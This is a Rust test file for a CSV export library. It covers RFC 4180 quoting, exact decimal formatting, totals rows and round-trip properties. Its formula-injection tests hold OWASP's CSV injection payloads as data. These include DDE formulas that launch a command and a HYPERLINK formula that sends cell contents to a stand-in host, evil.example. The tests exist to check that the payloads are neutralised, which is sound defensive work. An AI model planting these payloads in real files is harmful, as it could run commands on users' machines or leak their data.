//! CSV out: RFC 4180 framing, exact decimals, and the formula-injection guard tried with
//! the payloads of OWASP's "CSV Injection" page (owasp.org/www-community/attacks/CSV_Injection).

use proptest::prelude::*;
use roundbook_export::csv_out::{decimal_text, neutralise};
use roundbook_export::{to_csv, Cell, Column, Kind, Table};
use rust_decimal::Decimal;

fn read_back(text: &str) -> Vec<Vec<String>> {
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(text.as_bytes())
        .records()
        .map(|r| r.unwrap().iter().map(str::to_string).collect())
        .collect()
}

fn one_column(kind: Kind, cells: Vec<Cell>) -> Table {
    let mut t = Table::new("t", vec![Column::new("Value", kind)]);
    for c in cells {
        t.push(vec![c]);
    }
    t
}

/// OWASP's examples, and the other starting characters its page lists (tab, carriage return).
const OWASP_PAYLOADS: [&str; 8] = [
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example/?leak=\"&A1&A2, \"Error: please click\")",
    "=1+2\";=1+2",
    "\t=1+2",
    "\r=1+2",
];

#[test]
fn owasp_payloads_are_neutralised_with_a_leading_quote() {
    let table = one_column(
        Kind::Text,
        OWASP_PAYLOADS.iter().map(|p| Cell::text(*p)).collect(),
    );
    let rows = read_back(&to_csv(&table));
    assert_eq!(rows.len(), 1 + OWASP_PAYLOADS.len());
    for (row, payload) in rows[1..].iter().zip(OWASP_PAYLOADS) {
        assert_eq!(row[0], format!("'{payload}"), "payload {payload:?}");
    }
}

#[test]
fn numbers_stay_numbers() {
    let table = one_column(
        Kind::Money { decimals: 2 },
        vec![
            Cell::Decimal(Decimal::new(-5, 0)),
            Cell::Decimal(Decimal::new(-125, 2)),
        ],
    );
    let rows = read_back(&to_csv(&table));
    assert_eq!(rows[1][0], "-5.00");
    assert_eq!(rows[2][0], "-1.25");
    // Text that is itself a plain number is harmless in a spreadsheet and is left alone.
    assert_eq!(neutralise("-5"), "-5");
    assert_eq!(neutralise("+12.50"), "+12.50");
    assert_eq!(neutralise("-5+3"), "'-5+3");
    assert_eq!(neutralise("Series B"), "Series B");
}

#[test]
fn rfc_4180_framing() {
    let mut t = Table::new(
        "t",
        vec![
            Column::new("Name", Kind::Text),
            Column::new("Shares", Kind::Shares),
        ],
    );
    t.push(vec![
        Cell::text("Kingdom Holding, Inc."),
        Cell::Integer(60_000_000),
    ]);
    t.push(vec![
        Cell::text("The \"A\" fund\nline two"),
        Cell::Integer(1),
    ]);
    t.push(vec![Cell::text("Café Ünïcode"), Cell::Empty]);
    let text = to_csv(&t);
    assert!(text.ends_with("\r\n"));
    assert_eq!(
        text.matches("\r\n").count(),
        4,
        "four records, CRLF each:\n{text}"
    );
    assert!(text.contains("\"Kingdom Holding, Inc.\",60000000\r\n"));
    assert!(text.contains("\"The \"\"A\"\" fund\nline two\",1\r\n"));
    assert!(text.contains("Café Ünïcode,\r\n"), "UTF-8 kept as is");
    assert!(!text.starts_with('\u{feff}'), "no byte-order mark");
}

#[test]
fn money_keeps_every_decimal_and_pads_to_its_places() {
    assert_eq!(
        decimal_text("6000000000".parse().unwrap(), 2),
        "6000000000.00"
    );
    assert_eq!(decimal_text("15".parse().unwrap(), 5), "15.00000");
    assert_eq!(
        decimal_text("0.123456789012".parse().unwrap(), 2),
        "0.123456789012"
    );
    assert_eq!(
        decimal_text("79228162514264337593543950335".parse().unwrap(), 2),
        "79228162514264337593543950335.00",
        "the largest decimal is written whole"
    );
}

#[test]
fn a_totals_row_sums_exactly() {
    let mut t = Table::new(
        "t",
        vec![
            Column::new("Who", Kind::Text),
            Column::new("Amount", Kind::Money { decimals: 2 }).summed(),
        ],
    );
    // 0.1 + 0.2 is 0.3 in decimals (it is not in doubles).
    t.push(vec![Cell::text("a"), Cell::Decimal("0.1".parse().unwrap())]);
    t.push(vec![Cell::text("b"), Cell::Decimal("0.2".parse().unwrap())]);
    let rows = read_back(&to_csv(&t));
    assert_eq!(rows[3], ["Total", "0.30"]);
}

proptest! {
    /// Any text comes back as written (less the guard's quote), in the same field.
    #[test]
    fn text_round_trips(s in "\\PC{0,40}", t in "[=+@\\-\t\r,\"\n a-z]{0,12}") {
        let table = one_column(Kind::Text, vec![Cell::text(s.clone()), Cell::text(t.clone())]);
        let rows = read_back(&to_csv(&table));
        prop_assert_eq!(rows.len(), 3);
        for (row, original) in rows[1..].iter().zip([&s, &t]) {
            prop_assert_eq!(row.len(), 1);
            let expected = neutralise(original);
            prop_assert_eq!(&row[0], &expected);
            let guarded = expected.starts_with('\'') && !original.starts_with('\'');
            prop_assert!(!guarded || original.starts_with(['=', '+', '-', '@', '\t', '\r']));
        }
    }

    /// A decimal written to CSV parses back to the same value, digit for digit.
    #[test]
    fn decimals_round_trip(mantissa in any::<i64>(), scale in 0u32..=20) {
        let d = Decimal::new(mantissa, scale);
        let table = one_column(Kind::Number, vec![Cell::Decimal(d)]);
        let rows = read_back(&to_csv(&table));
        let back: Decimal = rows[1][0].parse().unwrap();
        prop_assert_eq!(back, d);
        prop_assert_eq!(back.scale(), d.scale());
    }
}
